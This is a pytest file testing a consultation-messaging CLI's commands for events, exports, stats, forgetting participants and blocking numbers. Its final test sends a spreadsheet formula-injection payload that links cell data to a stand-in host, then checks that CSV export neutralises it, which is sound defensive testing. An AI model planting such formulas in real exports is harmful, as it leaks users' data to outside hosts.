"""The operators' commands as an operator runs them, on SQLite and on the Firestore emulator:
events, export, stats, forget, block. Real processes, real stores, exit codes, no tracebacks."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from datetime import timedelta

import pytest
from harness import START, Conversation, make_engine
from operators_support import (
    ALEX,
    QUIET,
    SAM,
    everything_stored,
    listener_process,
    populate,
    store_url,
)

from listener.cli import main
from listener.operators.export import INTERACTION_COLUMNS


@pytest.fixture
def listener(monkeypatch, capsys):
    """`listener ARGS` on a store, in this process (the process entry is tested separately,
    by the tests that call `listener_process`): the real parser, commands and exit codes."""

    def run(store, *args: str, cwd) -> subprocess.CompletedProcess:
        monkeypatch.setenv("STORE_URL", store_url(store))
        monkeypatch.chdir(cwd)
        try:
            code = main(list(args))
        except SystemExit as exc:  # argparse: --help, or bad arguments
            code = exc.code
        out, err = capsys.readouterr()
        return subprocess.CompletedProcess(args, code, out, err)

    return run


def no_traceback(result) -> None:
    assert "Traceback" not in result.stderr, result.stderr


# events -----------------------------------------------------------------------------------


def test_events_add_update_show_close(any_store, tmp_path, listener):
    event_file = tmp_path / "pier.yaml"
    event_file.write_text("event_id: PIER-9\nevent_name: Pier consultation\nresponses: silent\n")
    added = listener_process(any_store, "events", "add", str(event_file), cwd=tmp_path)
    assert (added.returncode, added.stdout) == (0, "added event PIER-9 (Pier consultation)\n")
    again = listener(any_store, "events", "add", str(event_file), cwd=tmp_path)
    assert again.returncode == 1 and "exists already: use `listener events update" in again.stderr

    event_file.write_text("event_id: PIER-9\nevent_name: Pier consultation, day 2\ninteraction_limit: 50\n")
    assert listener(any_store, "events", "update", str(event_file), cwd=tmp_path).returncode == 0
    shown = listener(any_store, "events", "show", "pier-9", cwd=tmp_path)
    assert shown.returncode == 0
    config = json.loads(shown.stdout)
    assert (config["event_name"], config["interaction_limit"], config["closed"]) == ("Pier consultation, day 2", 50, False)

    closed = listener(any_store, "events", "close", "PIER-9", cwd=tmp_path)
    assert closed.returncode == 0 and "closed event PIER-9" in closed.stdout
    assert any_store.get_event("PIER-9").closed
    assert "PIER-9\tPier consultation, day 2\tclosed" in listener(any_store, "events", "list", cwd=tmp_path).stdout
    # a newcomer is told the event is closed and does not join it
    newcomer = Conversation(make_engine(any_store), participant="+15550300009")
    assert any("is closed" in reply for reply in newcomer.send("PIER-9"))
    assert newcomer.snapshot.current_event_id is None


def test_events_update_refuses_an_event_that_does_not_exist(any_store, tmp_path, listener):
    event_file = tmp_path / "new.json"
    event_file.write_text(json.dumps({"event_id": "NEW-1"}))
    result = listener(any_store, "events", "update", str(event_file), cwd=tmp_path)
    assert result.returncode == 1 and "no event NEW-1 to update: use `listener events add" in result.stderr
    assert any_store.get_event("NEW-1") is None


@pytest.mark.parametrize(
    "content, message",
    [
        ("event_id: CLIMATE24\ninteraction_limit: 0\n", "interaction_limit: Input should be greater than or equal to 1"),
        ("event_id: CLIMATE24\nlanguages: english\n", "languages: Input should be a valid list"),
        ("event_id: CLIMATE24\nresponses: chatty\n", "responses: Input should be 'llm', 'template' or 'silent'"),
    ],
)
def test_events_update_names_the_bad_field_and_changes_nothing(store, tmp_path, content, message, listener):
    before = store.get_event("CLIMATE24")
    event_file = tmp_path / "bad.yaml"
    event_file.write_text(content)
    result = listener(store, "events", "update", str(event_file), cwd=tmp_path)
    assert result.returncode == 2 and message in result.stderr
    no_traceback(result)
    assert store.get_event("CLIMATE24") == before


@pytest.mark.parametrize("action", ["show", "close"])
def test_events_show_and_close_an_unknown_event(store, tmp_path, action, listener):
    result = listener(store, "events", action, "NOPE", cwd=tmp_path)
    assert result.returncode == 1 and "no event 'NOPE' (events: CLIMATE24, " in result.stderr
    no_traceback(result)


# export -----------------------------------------------------------------------------------


def test_export_tttc_is_one_row_per_participant_with_what_they_said(any_store, tmp_path, listener):
    populate(any_store)
    out = tmp_path / "climate.csv"
    result = listener_process(any_store, "export", "CLIMATE24", "--format", "tttc", "-o", str(out), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "" and result.stderr == ""  # no progress without a terminal
    rows = list(csv.reader(out.open(newline="")))
    assert rows[0] == ["comment-id", "comment-body", "interview", "age", "gender", "region", "language"]
    by_name = {row[2]: row for row in rows[1:]}
    assert set(by_name) == {"Alex", "Sam"}  # Robin said nothing while listening
    # only what was said while listening: no answers, no command, no bot replies
    assert by_name["Alex"][1] == "the buses are late\nwe need more trees"
    assert by_name["Alex"][3:] == ["34", "female", "Bristol", "en"]
    assert by_name["Sam"][1:] == ["more bike lanes please", "Sam", "61", "male", "Bath", "en"]
    keys = [row[0] for row in rows[1:]]
    assert all(key.startswith("p-") for key in keys) and len(set(keys)) == 2
    assert "+1555" not in out.read_text() and "1555030" not in out.read_text()
    # the same key in every export; the raw number only when asked for
    again = listener(any_store, "export", "CLIMATE24", "--format", "tttc", cwd=tmp_path)
    assert again.stdout.replace("\r\n", "\n") == out.read_text().replace("\r\n", "\n")
    raw = listener(any_store, "export", "CLIMATE24", "--format", "tttc", "--raw-numbers", cwd=tmp_path)
    assert {row["comment-id"] for row in csv.DictReader(io.StringIO(raw.stdout))} == {ALEX, SAM}


def received_order(interactions):
    """As exports list them: by the time they were received, then as they were stored."""
    return [i for _, i in sorted(enumerate(interactions), key=lambda pair: (pair[1].at, pair[0]))]


def test_export_jsonl_and_csv_hold_every_interaction(any_store, tmp_path, listener):
    populate(any_store)
    stored = received_order(any_store.iter_interactions("CLIMATE24"))
    result = listener_process(any_store, "export", "climate24", "--format", "jsonl", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["id"] for line in lines] == [i.id for i in stored]
    assert set(lines[0]) == set(INTERACTION_COLUMNS)
    voice = next(line for line in lines if line["transcript"] == "we need more trees")
    assert (voice["direction"], voice["kind"], voice["media"][0]["content_type"]) == ("in", "contribution", "audio/ogg")
    assert {line["direction"] for line in lines} == {"in", "out"}
    assert "+1555" not in result.stdout

    table = listener(any_store, "export", "CLIMATE24", "--format", "csv", cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(table.stdout)))
    assert list(rows[0]) == list(INTERACTION_COLUMNS)
    assert [row["id"] for row in rows] == [i.id for i in stored]
    assert next(row for row in rows if row["id"] == voice["id"])["media"].startswith("https://api.twilio.com/")


def test_export_since_and_until_keep_a_window(any_store, tmp_path, listener):
    populate(any_store)
    stored = received_order(any_store.iter_interactions("CLIMATE24"))
    middle = sorted(i.at for i in stored)[len(stored) // 2]
    since, until = middle.isoformat(), (middle + timedelta(minutes=2)).isoformat()
    result = listener(any_store, "export", "CLIMATE24", "--format", "jsonl", "--since", since, "--until", until,
                      cwd=tmp_path)
    got = [json.loads(line)["id"] for line in result.stdout.splitlines()]
    assert got == [i.id for i in stored if middle <= i.at < middle + timedelta(minutes=2)]
    assert 0 < len(got) < len(stored)


@pytest.mark.parametrize(
    "args, code, message",
    [
        (["export", "NOPE"], 1, "no event 'NOPE'"),
        (["export", "CLIMATE24", "--since", "yesterday"], 2, "'yesterday' is not a date or time"),
        (["export", "CLIMATE24", "--since", "2026-03-03", "--until", "2026-03-02"], 2, "--since must be before --until"),
        (["export", "CLIMATE24", "--format", "xlsx"], 2, "invalid choice: 'xlsx'"),
        (["export", "CLIMATE24", "-o", "/nonexistent-folder/x.csv"], 1, "/nonexistent-folder/x.csv: cannot write"),
    ],
)
def test_export_bad_input_is_one_line(store, tmp_path, args, code, message, listener):
    result = listener(store, *args, cwd=tmp_path)
    assert result.returncode == code and message in result.stderr
    no_traceback(result)


# stats ------------------------------------------------------------------------------------


def test_stats_for_one_event_and_for_all(any_store, tmp_path, listener):
    chats = populate(any_store)
    outsider = Conversation(make_engine(any_store), participant="+15550300004")
    outsider.send("hello")
    failed_reply = next(i for i in any_store.iter_interactions(participant=SAM) if i.direction == "out")
    any_store.update_reply(failed_reply.id, "failed", error="63016")
    stored = list(any_store.iter_interactions("CLIMATE24"))

    result = listener_process(any_store, "stats", "climate24", "--json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    states = [chats[number].state for number in (ALEX, SAM, QUIET)]
    assert figures == {
        "event_id": "CLIMATE24",
        "participants": 3,
        "by_state": {state: states.count(state) for state in states},
        "in_other_event": 0,
        "completed": 1,
        "messages_in": sum(i.direction == "in" for i in stored),
        "messages_out": sum(i.direction == "out" for i in stored),
        "voice_notes": 1,
        "failed_sends": 1,
        "twilio_queue_seconds": 0.0,  # nothing was handed to Twilio
    }
    everyone = json.loads(listener(any_store, "stats", "--json", cwd=tmp_path).stdout)
    assert (everyone["event_id"], everyone["participants"]) == (None, 4)
    assert everyone["by_state"][outsider.state] >= 1 and sum(everyone["by_state"].values()) == 4
    assert everyone["messages_in"] == figures["messages_in"] + 1

    text = listener(any_store, "stats", "CLIMATE24", cwd=tmp_path).stdout
    assert "participants: 3" in text and "(voice notes: 1)" in text and "(failed sends: 1)" in text


def test_stats_for_an_unknown_event(store, tmp_path, listener):
    result = listener(store, "stats", "NOPE", cwd=tmp_path)
    assert result.returncode == 1 and "no event 'NOPE'" in result.stderr


# privacy ----------------------------------------------------------------------------------


def test_forget_leaves_no_trace_of_the_number_anywhere(any_store, tmp_path, listener):
    chats = populate(any_store)
    any_store.record_inbound(chats[ALEX].message("sent while the operator was forgetting"))  # still in the inbox
    assert listener(any_store, "block", ALEX, cwd=tmp_path).returncode == 0
    digits = ALEX.removeprefix("+")
    assert any(digits in text for text in everything_stored(any_store))

    result = listener_process(any_store, "participants", "forget", f"whatsapp:{ALEX}", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("forgot +155******01:\n")
    assert "  event profiles: 1\n" in result.stdout and "  inbox entries: 10\n" in result.stdout
    assert ALEX not in result.stdout
    assert [text for text in everything_stored(any_store) if digits in text] == []
    # everyone else is untouched, and the block stays in force
    assert any_store.load_participant(SAM) is not None and any_store.get_profile("CLIMATE24", SAM) is not None
    assert len(any_store.list_blocks()) == 1
    again = listener(any_store, "participants", "forget", ALEX, cwd=tmp_path)
    assert again.returncode == 1 and "nothing stored for +155******01" in again.stderr


def test_forget_refuses_what_is_not_a_number(store, tmp_path, listener):
    result = listener(store, "participants", "forget", "Alex", cwd=tmp_path)
    assert result.returncode == 2 and "'Alex' is not a phone number" in result.stderr
    no_traceback(result)


def test_block_list_and_unblock(any_store, tmp_path, listener):
    assert listener_process(any_store, "block", "+1 555 030 0001", cwd=tmp_path).stdout == "blocked +155******01\n"
    assert listener(any_store, "block", ALEX, cwd=tmp_path).stdout == "already blocked: +155******01\n"
    listed = listener(any_store, "block", "--list", cwd=tmp_path).stdout
    assert listed.startswith("+155******01\tp-") and ALEX not in listed
    assert listener(any_store, "unblock", ALEX, cwd=tmp_path).stdout == "unblocked +155******01\n"
    missing = listener(any_store, "unblock", ALEX, cwd=tmp_path)
    assert missing.returncode == 1 and "+155******01 is not blocked" in missing.stderr
    assert listener(any_store, "block", cwd=tmp_path).returncode == 2


def test_help_for_every_operator_command(store, tmp_path, listener):
    for args in (["events", "add", "--help"], ["events", "update", "--help"], ["events", "show", "--help"],
                 ["events", "close", "--help"], ["export", "--help"], ["stats", "--help"],
                 ["participants", "forget", "--help"], ["block", "--help"], ["unblock", "--help"]):
        result = listener(store, *args, cwd=tmp_path)
        assert result.returncode == 0 and result.stdout.startswith("usage: listener"), args


def test_a_message_time_window_uses_the_arrival_clock(store, tmp_path, listener):
    """`--since` compares with when messages arrived, in UTC when no zone is given."""
    populate(store)
    naive = (START + timedelta(hours=1)).replace(tzinfo=None).isoformat()
    result = listener(store, "export", "CLIMATE24", "--format", "jsonl", "--since", naive, cwd=tmp_path)
    assert result.returncode == 0 and result.stdout == ""


def test_csv_export_defuses_spreadsheet_formulas_and_tttc_keeps_words_verbatim(store, chat):
    from listener.operators.export import ExportRequest, export

    chat.send("QUIET-ROOM")
    chat.send('=HYPERLINK("http://example.invalid/?"&A2,"click")')
    chat.send("- more buses, please")
    event = store.get_event("QUIET-ROOM")
    table = io.StringIO()
    export(store, ExportRequest(event_id="QUIET-ROOM", format="csv"), event, table)
    texts = [row["text"] for row in csv.DictReader(io.StringIO(table.getvalue())) if row["direction"] == "in"]
    assert texts[1:] == ['\'=HYPERLINK("http://example.invalid/?"&A2,"click")', "'- more buses, please"]
    comments = io.StringIO()
    export(store, ExportRequest(event_id="QUIET-ROOM", format="tttc"), event, comments)
    body = next(csv.DictReader(io.StringIO(comments.getvalue())))["comment-body"]
    assert body == '=HYPERLINK("http://example.invalid/?"&A2,"click")\n- more buses, please'
